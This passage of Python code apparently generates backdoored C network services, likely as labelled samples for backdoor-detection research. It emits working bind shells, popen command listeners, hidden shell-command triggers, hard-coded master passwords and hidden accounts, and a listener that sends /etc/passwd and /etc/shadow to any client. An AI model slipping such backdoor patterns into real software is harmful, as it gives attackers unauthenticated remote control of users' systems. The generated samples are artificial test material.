                env = "HTTP_" + hn.upper().replace("-", "_")
                setup = f"        const char *xv = getenv({cstr(env)});\n"
                guard, x, where = "xv != NULL && ", "xv", f"request header {hn} (CGI variable {env})"
            elif inp == "cookie":
                cn = rng.choice(["uid", "lang", "auth", "dbg", "pref", "token"])
                setup = "        char cv[160];\n"
                guard = f"cookie_get(cookies, {cstr(cn)}, cv, sizeof cv) && "
                x, where = "cv", f"cookie {cn} (HTTP_COOKIE)"
            elif inp == "query":
                qn = rng.choice(["debug", "key", "auth", "tk", "mode", "lang", "s"])
                setup = "        char qv[160];\n"
                guard = f"form_get(params, {cstr(qn)}, qv, sizeof qv) && "
                x, where = "qv", f"request parameter {qn}"
            else:
                env = envmap[inp]
                if inp == "cookie-raw":
                    cname = rng.choice(["lang", "theme", "uid", "prefs", "tz"])
                    sec = f"{cname}={sec}"
                setup = f"        const char *xv = getenv({cstr(env)});\n"
                guard, x = "xv != NULL && ", "xv"
                where = {"ua": "User-Agent (HTTP_USER_AGENT)", "cookie-raw": f"HTTP_COOKIE containing '{sec}'",
                         "remote": "client address (REMOTE_ADDR)", "path-info": f"PATH_INFO prefix {sec}"}[inp]
        elif tpl == "binproto":
            guard, x = "cmd == CMD_HELLO && ", "(const char *)payload"
            where = "client identification string in the HELLO message payload"
        elif tpl == "cli":
            if inp == "term":
                setup = "        const char *xv = getenv(\"TERM\");\n"
                guard, x = "xv != NULL && ", "xv"
                where = "TERM environment variable (terminal type negotiated by the telnet client, inetd mode)"
                params["INETD"] = "1"
            else:
                x, where = "peer", "client IP address"
        if shape == "trusted-ip":
            cond = f"strcmp({x}, {cstr(sec)}) == 0"
            desc = m.desc
            cats = ["auth-bypass", "hidden-command", "hardcoded-secret"]
        elif shape == "strncmp":
            n = len(sec)
            desc = "strncmp() of the path prefix with a literal"
            if tpl == "httpd":
                cond = f"strncmp(r->path, {cstr(sec)}, {n}) == 0"
                grant = (f"        memmove(r->path, r->path + {n - 1}, strlen(r->path + {n - 1}) + 1);\n" + grant)
            else:
                cond = f"strncmp(xv, {cstr(sec)}, {n}) == 0"
        else:
            m = str_matcher(shape, x, sec, rng, arch)
            glob, cond, needs, desc, opt = m.globals, m.cond, m.needs, m.desc, m.opt
        verb = {"strncmp": "starts with", "strstr": "contains"}.get(shape, "equals")
        if shape in ("crc32", "fnv1a", "sha256-hex"):
            verb = "hashes like"
        if inp == "cookie-raw":
            where, verb = ("Cookie header" if tpl == "httpd" else "HTTP_COOKIE"), "contains"
        if inp in ("path", "path-info"):
            where = "URL path" if inp == "path" else "PATH_INFO"
        value_desc = f"{where} {verb} {sec!r} ({desc})"
        code = f"    {{\n{setup}        if ({guard}{cond}) {{\n{grant}        }}\n    }}\n"
    else:
        # ---- integer / byte fields of binary protocols
        val = rng.getrandbits(32) | 0x01000000
        if inp == "mac":
            mac = bytes([rng.randrange(256) for _ in range(6)])
            k = ident(rng, 2)
            glob = f"static const unsigned char {k}[6] = {{ {', '.join(f'0x{b:02x}' for b in mac)} }};\n"
            cond = f"memcmp(h.mac, {k}, sizeof h.mac) == 0"
            value_desc = f"destination MAC field of the packet equals {mac.hex(':')} (memcmp() against a constant array)"
            sec = mac.hex(":")
        else:
            ishape = "u32-eq" if shape == "u32-eq" else rng.choice(["u32-xor", "u32-add"])
            if inp == "session":
                cond, d = int_matcher(ishape, "ntohl(h.session)", val, rng)
                value_desc = f"32-bit session field of the message header {d}"
            elif inp == "flags-session":
                fl = rng.randrange(1, 0xffff)
                c1, d = int_matcher(ishape, "ntohl(h.session)", val, rng)
                cond = f"ntohs(h.flags) == 0x{fl:04x} && {c1}"
                value_desc = f"flags field is 0x{fl:04x} and the 32-bit session field {d}"
            else:  # seq
                cond, d = int_matcher(ishape, "ntohl(h.seq)", val, rng)
                value_desc = f"32-bit sequence field of the packet header {d}"
            sec = f"0x{val:08x}"
            cats = ["auth-bypass", "hidden-command", "hardcoded-secret"]
        code = f"    if ({cond}) {{\n{grant}    }}\n"
    tname = {"httpd": "HTTP admin server", "cgi": "admin CGI", "binproto": "TCP management protocol service",
             "udpd": "UDP management daemon", "cli": "telnet-style login service"}[tpl]
    effect = {"httpd": "the request is treated as an authenticated administrator session",
              "cgi": "the request is treated as an authenticated administrator session",
              "binproto": "the command is executed with administrator privilege without LOGIN",
              "udpd": "privileged operations (set name/IP, reboot) are accepted without the password",
              "cli": "the login prompt is skipped and an administrator CLI session starts"}[tpl]
    note = f"{tname} {params['PROG']}: when the {value_desc}, {effect}."
    literal = sec if shape in ("strcmp", "strstr", "strcasecmp", "strncmp", "trusted-ip", "memcmp-call") else ""
    return {"slots": {"GLOBALS": glob, "BYPASS": code}, "needs": needs, "opt": opt, "note": note,
            "categories": cats, "severity": "critical", "trigger": shape, "input": inp, "sink": "privilege-flag",
            "secret": sec, "literal": literal}


# ----------------------------------------------------------------------------- plants: hidden command

# trigger shape -> templates
HIDDEN_SHAPES: dict[str, list[str]] = {
    "strcmp-path": ["httpd"],
    "strcmp-action": ["cgi"],
    "switch-case": ["binproto", "udpd"],
    "memcmp-payload": ["udpd", "binproto"],
    "cli-strcmp": ["cli", "cfgd"],
    "crc32": ["cli", "cgi", "cfgd", "httpd"],
    "byte-xor": ["httpd", "cfgd", "cli", "cgi"],
    "header-name": ["httpd", "cgi"],
    "cfgd-key": ["cfgd"],
    "stack-chars": ["cli", "binproto", "cgi"],
    "md5-hex": ["httpd", "cfgd", "cli"],
    "ua-token": ["httpd", "cgi"],
    "flags-magic": ["binproto", "udpd"],
    "strncmp-prefix": ["cli", "cfgd", "binproto"],
}

SINKS_FOR = {
    "httpd": ["popen", "execl-sh", "execve-argv", "system", "telnetd", "dup2-shell"],
    "cgi": ["popen", "system", "execve-argv", "execl-sh", "telnetd"],
    "binproto": ["popen", "execve-argv", "system", "dup2-shell", "telnetd"],
    "udpd": ["system", "telnetd", "execl-sh", "execve-argv"],
    "cli": ["dup2-shell", "setuid-shell", "execl-sh", "popen", "system"],
    "cfgd": ["system", "popen", "execve-argv", "telnetd", "execl-sh"],
}

CMD_PARAMS = ["cmd", "c", "exec", "sys", "x", "run", "diag", "command", "q", "arg"]


def _hidden_word(rng: random.Random) -> str:
    return rng.choice([f"{word(rng)}", f"_{word(rng)}", f"{word(rng)}{rng.randint(1, 99)}",
                       f"{word(rng, (1, 2))}_{word(rng, (1, 2))}", f"x{token_hex(rng, 3)}"])


def plant_hidden(shape: str, tpl: str, params: dict, rng: random.Random, arch: str, sink: str) -> dict:
    sname = fn_name(rng, ["run", "exec", "spawn", "do", "task", "diag", "sys"])
    scode, sdesc = sink_fn(sink, sname, rng)
    glob = scode + "\n"
    needs: set[str] = set()
    opt = None
    slots: dict[str, str] = {}
    pre_auth = True
    shell = sink in SHELL_SINKS
    trig_desc = ""
    cmd_desc = "the command"
    secret_val = ""
    if tpl == "httpd":
        head = ("            fd_printf(fd, \"HTTP/1.0 200 OK\\r\\nContent-Type: text/plain\\r\\n"
                "Connection: close\\r\\n\\r\\n\");\n")
        param = rng.choice(CMD_PARAMS)
        getcmd = (f"            char hc[512];\n\n            if (!form_get(r->query, {cstr(param)}, hc, sizeof hc))\n"
                  f"                form_get(r->body, {cstr(param)}, hc, sizeof hc);\n")
        cmd_desc = f"the value of request parameter '{param}'"
        if shape == "header-name":
            hn = rng.choice(HDR_NAMES + ["X-Exec", "X-Cmd-Line", "X-Diag"])
            secret_val = hn
            code = (f"    {{\n        const char *hv = req_header(r, {cstr(hn)});\n\n        if (hv && *hv) {{\n"
                    f"{head.replace('            ', '            ')}            {sname}(hv, fd);\n            return;\n        }}\n    }}\n")
            trig_desc = f"an HTTP request carrying header '{hn}' (any path)"
            cmd_desc = f"the value of header '{hn}'"
        else:
            if shape == "ua-token":
                sec = ua_secret(rng)
                m = str_matcher("strstr", "r->ua", sec, rng, arch)
                trig_desc = f"an HTTP request whose User-Agent contains {sec!r}"
            else:
                sec = "/" + rng.choice(["", "cgi-bin/", "goform/", "admin/"]) + _hidden_word(rng) + \
                    rng.choice([".cgi", ".asp", ".htm", "", ".php"])
                mshape = {"strcmp-path": "strcmp", "crc32": "crc32", "byte-xor": "byte-xor",
                          "md5-hex": "md5-hex"}.get(shape, "strcmp")
                m = str_matcher(mshape, "r->path", sec, rng, arch)
                trig_desc = f"an HTTP request to the undocumented path {sec} ({m.desc})"
            secret_val = sec
            glob += m.globals
            needs |= m.needs
            code = (f"    if ({m.cond}) {{\n        {{\n{getcmd}{head}            {sname}(hc, fd);\n"
                    f"            return;\n        }}\n    }}\n")
        slots["HIDDEN"] = code
        where = f"HTTP admin server {params['PROG']} (port {params['PORT']})"
    elif tpl == "cgi":
        param = rng.choice(CMD_PARAMS)
        run = (f"            char hc[512];\n\n            form_get(params, {cstr(param)}, hc, sizeof hc);\n"
               f"            send_header(200, NULL);\n            fflush(stdout);\n            {sname}(hc, 1);\n"
               f"            return 0;\n")
        cmd_desc = f"the value of request parameter '{param}'"
        if shape == "header-name":
            hn = rng.choice(HDR_NAMES + ["X-Exec", "X-Diag"])
            env = "HTTP_" + hn.upper().replace("-", "_")
            secret_val = env
            code = (f"    {{\n        const char *hv = getenv({cstr(env)});\n\n        if (hv && *hv) {{\n"
                    f"            send_header(200, NULL);\n            fflush(stdout);\n            {sname}(hv, 1);\n"
                    f"            return 0;\n        }}\n    }}\n")
            trig_desc = f"a request carrying header '{hn}' (CGI variable {env})"
            cmd_desc = f"the value of header '{hn}'"
        elif shape == "ua-token":
            sec = ua_secret(rng)
            secret_val = sec
            code = (f"    {{\n        const char *ua = getenv(\"HTTP_USER_AGENT\");\n\n"
                    f"        if (ua && strstr(ua, {cstr(sec)}) != NULL) {{\n{run}        }}\n    }}\n")
            trig_desc = f"a request whose User-Agent contains {sec!r}"
        else:
            sec = rng.choice(["syscmd", "sys_cmd", "exec", "diag_run", "shell", "debug_cmd", "cmdline"]) + \
                rng.choice(["", str(rng.randint(1, 9)), "_" + word(rng, (1, 1))])
            mshape = {"strcmp-action": "strcmp", "crc32": "crc32", "byte-xor": "byte-xor",
                      "stack-chars": "stack-chars"}.get(shape, "strcmp")
            m = str_matcher(mshape, "action", sec, rng, arch)
            glob += m.globals
            needs |= m.needs
            secret_val = sec
            code = f"    if ({m.cond}) {{\n        {{\n{run}        }}\n    }}\n"
            trig_desc = f"the undocumented {params['ACTION']}={sec} ({m.desc})"
        slots["HIDDEN"] = code
        where = f"admin CGI {params['PROG']}"
    elif tpl == "binproto":
        cmds = params["_cmds"]
        hc = rng.choice([c for c in range(0x0001, 0x7fff) if c not in cmds and c & 0xff])
        fd_arg = "c->fd"
        reply = "            send_msg(c, cmd, ST_OK, NULL, 0);\n"
        if shape == "switch-case":
            code = f"        case 0x{hc:04x}:\n            {sname}((const char *)payload, {fd_arg});\n{reply}            break;\n"
            slots["HIDDEN_CASE"] = code
            trig_desc = f"a message with the undocumented command code 0x{hc:04x} (extra case of the command switch)"
            secret_val = f"0x{hc:04x}"
        elif shape == "flags-magic":
            fl = rng.randrange(0x1000, 0xffff)
            val = rng.getrandbits(32)
            code = (f"        if (ntohs(h.flags) == 0x{fl:04x} && ntohl(h.session) == 0x{val:08x}u) {{\n"
                    f"            {sname}((const char *)payload, {fd_arg});\n    {reply}            continue;\n        }}\n")
            slots["HIDDEN"] = code
            trig_desc = f"any message whose header has flags 0x{fl:04x} and session 0x{val:08x}"
            secret_val = f"0x{val:08x}"
        elif shape == "memcmp-payload":
            mg = secret(rng, 8, ALNUM)
            code = (f"        if (cmd == CMD_STATUS && len > 8 && memcmp(payload, {cstr(mg)}, 8) == 0) {{\n"
                    f"            {sname}((const char *)payload + 8, {fd_arg});\n    {reply}            continue;\n        }}\n")
            slots["HIDDEN"] = code
            trig_desc = f"a STATUS message whose payload starts with the 8-byte magic {mg!r}"
            cmd_desc = "the rest of the payload"
            secret_val = mg
        else:  # stack-chars / strncmp-prefix on HELLO payload
            sec = _hidden_word(rng) + rng.choice([":", "!", "#"])
            if shape == "strncmp-prefix":
                cond = f"strncmp((const char *)payload, {cstr(sec)}, {len(sec)}) == 0"
                md = "strncmp() prefix"
            else:
                m = str_matcher("stack-chars", "pfx", sec, rng, arch)
                glob += m.globals.replace("return strcmp(p, k) == 0;", f"return strncmp(p, k, {len(sec)}) == 0;")
                cond = m.cond.replace("pfx", "(const char *)payload")
                md = "prefix built on the stack"
            code = (f"        if (cmd == CMD_HELLO && {cond}) {{\n"
                    f"            {sname}((const char *)payload + {len(sec)}, {fd_arg});\n    {reply}            continue;\n        }}\n")
            slots["HIDDEN"] = code
            trig_desc = f"a HELLO message whose payload starts with {sec!r} ({md})"
            cmd_desc = "the rest of the payload"
            secret_val = sec
        if "payload" in code and cmd_desc == "the command":
            cmd_desc = "the message payload"
        where = f"TCP management service {params['PROG']} (port {params['PORT']})"
    elif tpl == "udpd":
        ops = params["_ops"]
        if shape == "switch-case":
            hop = rng.choice([o for o in range(1, 0x7f) if o not in ops])
            code = f"    case 0x{hop:02x}:\n        {sname}(payload, -1);\n        reply(s, from, &h, 0, \"ok\");\n        break;\n"
            slots["HIDDEN_CASE"] = code
            trig_desc = (f"a packet with the undocumented opcode 0x{hop:02x} (extra case of the opcode switch, "
                         "device MAC in the header)")
            secret_val = f"0x{hop:02x}"
            cmd_desc = "the packet payload"
        elif shape == "flags-magic":
            fl = rng.randrange(0x1000, 0xffff)
            code = (f"    if (ntohs(h.flags) == 0x{fl:04x} && h.op == OP_INFO) {{\n        {sname}(payload, -1);\n"
                    "        return;\n    }\n")
            slots["HIDDEN"] = code
            trig_desc = f"an INFO packet whose flags field is 0x{fl:04x} (no MAC or password check)"
            secret_val = f"0x{fl:04x}"
            cmd_desc = "the packet payload"
        else:  # memcmp-payload
            mg = secret(rng, rng.choice([6, 8, 12]), ALNUM)
            n = len(mg)
            code = (f"    if (h.op == OP_DISCOVER && plen > {n} && memcmp(payload, {cstr(mg)}, {n}) == 0) {{\n"
                    f"        {sname}(payload + {n}, -1);\n        return;\n    }}\n")
            slots["HIDDEN"] = code
            trig_desc = f"a broadcast DISCOVER packet whose payload starts with the magic {mg!r}"
            cmd_desc = "the rest of the payload"
            secret_val = mg
        where = f"UDP discovery daemon {params['PROG']} (port {params['PORT']})"
    elif tpl == "cli":
        pre_auth = False
        sec = _hidden_word(rng)
        secret_val = sec
        if shape == "strncmp-prefix":
            sec = rng.choice(["!", "#", "$", "."]) + sec
            secret_val = sec
            cond = f"strncmp(line, {cstr(sec)}, {len(sec)}) == 0"
            md = "strncmp() prefix"
        else:
            mshape = {"cli-strcmp": "strcmp", "crc32": "crc32", "byte-xor": "byte-xor", "stack-chars": "stack-chars",
                      "md5-hex": "md5-hex"}.get(shape, "strcmp")
            m = str_matcher(mshape, "line", sec, rng, arch)
            glob += m.globals
            needs |= m.needs
            cond, md = m.cond, m.desc
        if shell:
            code = f"    if ({cond}) {{\n        fflush(out);\n        {sname}(arg, fileno(out));\n        return 0;\n    }}\n"
        else:
            code = f"    if ({cond}) {{\n        fflush(out);\n        {sname}(arg, fileno(out));\n        return 0;\n    }}\n"
        slots["HIDDEN"] = code
        trig_desc = f"the undocumented CLI command {sec!r} (not in the help table; {md}; open to any logged-in user)"
        cmd_desc = "the rest of the command line"
        where = f"CLI login service {params['PROG']}"
    elif tpl == "cfgd":
        if shape == "cfgd-key":
            sec = rng.choice(["sys_", "dbg_", "diag_", "x_", "_"]) + word(rng)
            secret_val = sec
            code = (f"        if (strcmp(verb, \"set\") == 0 && strcmp(key, {cstr(sec)}) == 0) {{\n"
                    f"            {sname}(arg, fd);\n            fd_printf(fd, \"OK\\n\");\n            continue;\n        }}\n")
            trig_desc = f"'set {sec} <value>' on the control port (a key absent from the key table; accepted before 'auth')"
            cmd_desc = "the value"
        else:
            sec = _hidden_word(rng)
            if shape == "strncmp-prefix":
                sec = rng.choice(["!", "@", "."]) + sec
                cond, md = f"strncmp(verb, {cstr(sec)}, {len(sec)}) == 0", "strncmp() prefix"
            else:
                mshape = {"cli-strcmp": "strcmp", "crc32": "crc32", "byte-xor": "byte-xor",
                          "md5-hex": "md5-hex"}.get(shape, "strcmp")
                m = str_matcher(mshape, "verb", sec, rng, arch)
                glob += m.globals
                needs |= m.needs
                cond, md = m.cond, m.desc
            secret_val = sec
            code = (f"        if ({cond}) {{\n            *(key + strlen(key)) = ' ';\n"
                    f"            {sname}(key, fd);\n            continue;\n        }}\n")
            trig_desc = f"the undocumented control verb {sec!r} ({md}; accepted before 'auth')"
            cmd_desc = "the rest of the line"
        slots["HIDDEN"] = code
        where = f"configuration daemon {params['PROG']} (control port {params['PORT']})"
    else:
        raise ValueError(tpl)
    slots["GLOBALS"] = glob
    if shell:
        effect = f"opens a shell: {sdesc}"
    else:
        effect = f"runs {cmd_desc} as a shell command via {sdesc}"
    note = f"{where}: {trig_desc} {effect}" + ("" if not pre_auth else "; no authentication required") + "."
    cats = ["hidden-command", "remote-access"]
    if pre_auth:
        cats.append("auth-bypass")
    literal = secret_val if shape in ("strcmp-path", "strcmp-action", "cli-strcmp", "header-name", "cfgd-key",
                                      "ua-token", "strncmp-prefix") else ""
    if shape == "memcmp-payload" and len(secret_val) > 8:
        literal = secret_val
    return {"slots": slots, "needs": needs, "opt": opt, "note": note, "categories": cats, "severity": "critical",
            "trigger": shape, "input": tpl, "sink": sink, "secret": secret_val, "literal": literal}


# ----------------------------------------------------------------------------- plants: master password

MASTER_SHAPES: dict[str, list[str]] = {
    "strcmp": ["cli", "httpd", "binproto", "udpd", "cgi", "cfgd"],
    "hidden-user": ["cli", "httpd", "cgi", "binproto", "cfgd"],
    "md5-hex": ["httpd", "cli", "cgi", "cfgd"],
    "sha256-raw": ["cli", "binproto", "httpd", "udpd"],
    "sha1-hex": ["cgi", "cfgd", "binproto", "cli"],
    "crc32-userpass": ["udpd", "binproto", "cli", "httpd"],
    "byte-xor": ["cli", "httpd", "binproto", "cgi", "udpd"],
    "stack-chars": ["httpd", "cli", "cfgd", "udpd"],
    "pieces": ["cli", "cgi", "binproto", "httpd"],
    "table-entry": ["httpd", "cli", "cfgd", "binproto"],
    "builtin-memcmp": ["cli", "udpd", "binproto", "httpd"],
    "u32-words": ["udpd", "binproto", "cli"],
    "potd": ["cli", "httpd", "cgi", "binproto"],
    "challenge": ["cli"],
    "memcmp-call": ["cfgd", "cgi", "httpd"],
}


def plant_master(shape: str, tpl: str, params: dict, rng: random.Random, arch: str) -> dict:
    glob = ""
    needs: set[str] = set()
    opt = None
    slots: dict[str, str] = {}
    tname = {"cli": "CLI login service", "httpd": "HTTP admin server (login form and Basic auth)",
             "cgi": "admin CGI login action", "binproto": "TCP management protocol LOGIN command",
             "udpd": "UDP management daemon (user:password auth field)",
             "cfgd": "configuration daemon control 'auth' command"}[tpl]
    prog = params["PROG"]
    where = f"{tname} of {prog}, check_credentials()"
    after = rng.random() < 0.4
    user_desc = "any user name"
    if shape == "challenge":
        hu = hidden_user(rng)
        sec = word_secret(rng)
        algo = rng.choice(["md5", "sha256", "sha1"])
        nhex = rng.choice([8, 12, 16])
        order = rng.choice(["cs", "sc"])
        ctxt, ini, upd, fin, dl = {"md5": ("md5_ctx", "md5_init", "md5_update", "md5_final", 16),
                                   "sha1": ("sha1_ctx", "sha1_init", "sha1_update", "sha1_final", 20),
                                   "sha256": ("sha256_ctx", "sha256_init", "sha256_update", "sha256_final", 32)}[algo]
        if algo in ("md5", "sha1"):
            needs.add(algo)
        fmt_args = "chal, " + cstr(sec) if order == "cs" else cstr(sec) + ", chal"
        code = (f"        if (strcmp(trim(user), {cstr(hu)}) == 0) {{\n"
                f"            char chal[16], resp[80], buf[96], want[{2 * dl + 1}];\n"
                f"            unsigned char d[{dl}];\n            {ctxt} hc;\n"
                f"            uint32_t nonce = (uint32_t)time(NULL) ^ ((uint32_t)getpid() << 12);\n\n"
                f"            snprintf(chal, sizeof chal, \"%08x\", nonce);\n"
                f"            fprintf(out, \"Challenge: %s\\r\\nResponse: \", chal);\n"
                f"            if (read_line(in, resp, sizeof resp) < 0)\n                goto done;\n"
                f"            snprintf(buf, sizeof buf, \"%s%s\", {fmt_args});\n"
                f"            {ini}(&hc);\n            {upd}(&hc, buf, strlen(buf));\n            {fin}(&hc, d);\n"
                f"            hex_encode(d, sizeof d, want);\n"
                f"            if (strlen(resp) == {nhex} && strncmp(resp, want, {nhex}) == 0) {{\n"
                f"                level = LEVEL_ADMIN;\n                goto authed;\n            }}\n"
                f"            fprintf(out, \"Login incorrect\\r\\n\\r\\n\");\n            continue;\n        }}\n")
        slots["AUTH_INTERACTIVE"] = code
        slots["GLOBALS"] = ""
        what = "challenge+secret" if order == "cs" else "secret+challenge"
        note = (f"CLI login service {prog}: hidden user {hu!r} gets a challenge (8 hex digits) instead of the "
                f"password prompt; the response is the first {nhex} hex digits of {algo.upper()}({what}) with the "
                f"embedded secret {sec!r}, which logs in with administrator level.")
        return {"slots": slots, "needs": needs, "opt": opt, "note": note,
                "categories": ["hardcoded-secret", "auth-bypass", "account"], "severity": "critical",
                "trigger": shape, "input": tpl, "sink": "privilege-level", "secret": sec, "user": hu, "literal": sec}
    if shape == "potd":
        sec = word_secret(rng)
        nhex = rng.choice([8, 10, 12])
        fname = fn_name(rng)
        glob = (f"static int {fname}(const char *p)\n{{\n    char buf[96], hex[65];\n    unsigned char d[32];\n"
                f"    sha256_ctx c;\n    struct tm tm;\n    time_t now = time(NULL), t;\n    int off;\n\n"
                f"    if (strlen(p) != {nhex})\n        return 0;\n"
                f"    for (off = -1; off <= 1; off++) {{\n        t = now + off * 86400;\n        gmtime_r(&t, &tm);\n"
                f"        snprintf(buf, sizeof buf, \"%s%04d%02d%02d\", {cstr(sec)}, tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday);\n"
                f"        sha256_init(&c);\n        sha256_update(&c, buf, strlen(buf));\n        sha256_final(&c, d);\n"
                f"        hex_encode(d, sizeof d, hex);\n        if (strncmp(p, hex, {nhex}) == 0)\n            return 1;\n"
                f"    }}\n    return 0;\n}}\n")
        cond = f"{fname}(pass)"
        hu = None
        if rng.random() < 0.5:
            hu = hidden_user(rng)
            cond = f"strcmp(user, {cstr(hu)}) == 0 && {cond}"
            user_desc = f"user {hu!r}"
        mdesc = (f"password of the day: the first {nhex} hex digits of SHA-256(secret {sec!r} + YYYYMMDD), "
                 f"accepted for yesterday, today and tomorrow")
    elif shape == "hidden-user":
        hu = hidden_user(rng)
        sec = word_secret(rng)
        mshape = rng.choice(["strcmp", "strcmp", "byte-array", "sha256-hex"])
        m = str_matcher(mshape, "pass", sec, rng, arch)
        glob, needs, opt = m.globals, m.needs, m.opt
        cond = f"strcmp(user, {cstr(hu)}) == 0 && {m.cond}"
        user_desc = f"the hidden user {hu!r}"
        mdesc = f"hidden account {hu!r} with password {sec!r} ({m.desc}), absent from the users file"
    elif shape == "crc32-userpass":
        hu = rng.choice(["admin", hidden_user(rng)])
        sec = word_secret(rng)
        v = zlib.crc32(f"{hu}:{sec}".encode()) & 0xffffffff
        needs = {"crc32"}
        fname = fn_name(rng)
        glob = (f"static int {fname}(const char *u, const char *p)\n{{\n    char buf[128];\n\n"
                f"    snprintf(buf, sizeof buf, \"%s:%s\", u, p);\n    return crc32_calc(buf, strlen(buf)) == 0x{v:08x}u;\n}}\n")
        cond = f"{fname}(user, pass)"
        user_desc = f"user {hu!r}"
        mdesc = (f"CRC-32 of 'user:password' compared with 0x{v:08x} (matches {hu}:{sec}; any CRC collision "
                 "also logs in)")
    else:
        sec = secret_for(shape, rng, "pw")
        m = str_matcher(shape, "pass", sec, rng, arch)
        glob, needs, opt = m.globals, m.needs, m.opt
        cond = m.cond
        hu = None
        if rng.random() < 0.3 and shape not in ("table-entry",):
            hu = rng.choice(["admin", "root", hidden_user(rng)])
            cond = f"strcmp(user, {cstr(hu)}) == 0 && {cond}"
            user_desc = f"user {hu!r}"
        mdesc = f"master password {sec!r} ({m.desc})"
    if after:
        slots["AUTH_POST"] = f"    if (level == LEVEL_NONE && {cond})\n        level = LEVEL_ADMIN;\n"
        place = "after the honest check fails"
    else:
        slots["AUTH_PRE"] = f"    if ({cond})\n        return LEVEL_ADMIN;\n"
        place = "before the honest salted-hash check"
    slots["GLOBALS"] = glob
    note = (f"{where}: {mdesc}; accepted for {user_desc} {place}, granting administrator level "
            f"regardless of the configured accounts.")
    return {"slots": slots, "needs": needs, "opt": opt, "note": note,
            "categories": ["hardcoded-secret", "auth-bypass", "account"], "severity": "critical",
            "trigger": shape, "input": tpl, "sink": "privilege-level", "secret": sec,
            "placement": "post" if after else "pre",
            "literal": sec if shape in ("strcmp", "memcmp-call", "table-entry", "potd") else
            (hu if shape == "hidden-user" else "")}


# ----------------------------------------------------------------------------- plants: listener

LISTENER_SHAPES = ["bind-shell", "cmd-listener", "config-dump", "config-set", "udp-telnetd", "udp-cmd",
                   "raw-icmp", "knock-telnetd", "pw-shell"]
LISTENER_TEMPLATES = ["cli", "httpd", "udpd", "binproto", "cfgd"]


def _port_expr(lport: int, rng: random.Random) -> tuple[str, str, str]:
    """(globals, C expression of the port in host order, style)."""
    style = rng.choice(["literal", "hex", "string", "xor"])
    if style == "literal":
        return "", str(lport), style
    if style == "hex":
        return "", f"0x{lport:04x}", style
    if style == "string":
        k = ident(rng, 2)
        return f"static const char {k}[] = \"{lport}\";\n", f"atoi({k})", style
    key = rng.randrange(1, 0xffff)
    k = ident(rng, 2)
    return f"static volatile uint16_t {k} = 0x{lport ^ key:04x};\n", f"({k} ^ 0x{key:04x})", style


def plant_listener(shape: str, tpl: str, params: dict, rng: random.Random, arch: str) -> dict:
    lport = port(rng)
    while lport in (params["_dport"], params["_sport"]):
        lport = port(rng)
    pg, pexpr, pstyle = _port_expr(lport, rng)
    fname = fn_name(rng, ["start", "init", "spawn", "run", "launch", "svc"])
    double_fork = rng.random() < 0.4
    if double_fork:
        spawn = ("    if (fork() != 0)\n        return;\n    setsid();\n    if (fork() != 0)\n        _exit(0);\n")
        spawn_desc = "double-forked daemon"
    else:
        spawn = "    if (fork() != 0)\n        return;\n"
        spawn_desc = "forked child"
    use_helper = rng.random() < 0.4
    if use_helper:
        tcp_open = f"    s = listen_tcp(INADDR_ANY, {pexpr});\n    if (s < 0)\n        _exit(0);\n"
    else:
        tcp_open = ("    s = socket(AF_INET, SOCK_STREAM, 0);\n    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);\n"
                    "    memset(&a, 0, sizeof a);\n    a.sin_family = AF_INET;\n"
                    f"    a.sin_port = htons((uint16_t)({pexpr}));\n    a.sin_addr.s_addr = htonl(INADDR_ANY);\n"
                    "    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 2) < 0)\n        _exit(0);\n")
    decl = "    int s, c;\n" if use_helper else "    struct sockaddr_in a;\n    int s, c, one = 1;\n"
    cats = ["remote-access", "hidden-command"]
    sec = str(lport)
    extra = ""
    if shape in ("bind-shell", "pw-shell"):
        shell = rng.choice(["execl(\"/bin/sh\", \"sh\", \"-i\", (char *)NULL);",
                            "execl(\"/bin/sh\", \"sh\", (char *)NULL);",
                            "{\n                char *av[] = {\"/bin/sh\", \"-i\", NULL};\n                execve(av[0], av, NULL);\n            }"])
        gate = ""
        if shape == "pw-shell":
            pw = word_secret(rng)
            sec = pw
            gate = ("            char pw[64];\n            ssize_t n;\n\n"
                    "            write_all(c, \"> \", 2);\n            n = recv(c, pw, sizeof pw - 1, 0);\n"
                    "            if (n <= 0)\n                _exit(0);\n            pw[n] = '\\0';\n"
                    "            pw[strcspn(pw, \"\\r\\n\")] = '\\0';\n"
                    f"            if (strcmp(pw, {cstr(pw)}) != 0)\n                _exit(0);\n")
            cats.append("hardcoded-secret")
            extra = f" after a hard-coded password {pw!r}"
        handler = ("        if (fork() == 0) {\n" + gate + "            close(s);\n            dup2(c, 0);\n            dup2(c, 1);\n"
                   "            dup2(c, 2);\n" f"            {shell}\n            _exit(1);\n        }}\n")
        what = f"gives an interactive /bin/sh on the connection{extra} (bind shell)"
    elif shape == "cmd-listener":
        handler = ("        if (fork() == 0) {\n            char line[512];\n            char out[512];\n"
                   "            ssize_t n;\n            size_t k;\n            FILE *p;\n\n            close(s);\n"
                   "            while ((n = recv(c, line, sizeof line - 1, 0)) > 0) {\n                line[n] = '\\0';\n"
                   "                line[strcspn(line, \"\\r\\n\")] = '\\0';\n                p = popen(line, \"r\");\n"
                   "                if (!p)\n                    continue;\n"
                   "                while ((k = fread(out, 1, sizeof out, p)) > 0)\n                    write_all(c, out, k);\n"
                   "                pclose(p);\n            }\n            _exit(0);\n        }\n")
        what = "runs every received line through popen() and returns the output"
    elif shape == "config-dump":
        files = ["conf_path", "users_path", "\"/etc/passwd\"", "\"/etc/shadow\""]
        if rng.random() < 0.5:
            files.append("\"/etc/config/network\"")
        tbl = ident(rng, 2)
        extra_g = f"static const char *{tbl}[{len(files) + 1}];\n"
        handler = ("        {\n            static char buf[8192];\n            int i;\n\n"
                   + "".join(f"            {tbl}[{i}] = {f};\n" for i, f in enumerate(files)) +
                   f"            for (i = 0; {tbl}[i]; i++) {{\n"
                   f"                long n = read_file({tbl}[i], buf, sizeof buf);\n"
                   f"                if (n > 0) {{\n                    fd_printf(c, \"--- %s\\n\", {tbl}[i]);\n"
                   "                    write_all(c, buf, (size_t)n);\n                }\n            }\n        }\n")
        pg += extra_g
        what = "dumps the daemon configuration (with the admin password hash), the users file, /etc/passwd and /etc/shadow to any client"
        cats.append("auth-bypass")
    elif shape == "config-set":
        handler = ("        {\n            char line[256];\n            ssize_t n;\n\n"
                   "            while ((n = recv(c, line, sizeof line - 1, 0)) > 0) {\n                char *eq, *k;\n\n"
                   "                line[n] = '\\0';\n                line[strcspn(line, \"\\r\\n\")] = '\\0';\n"
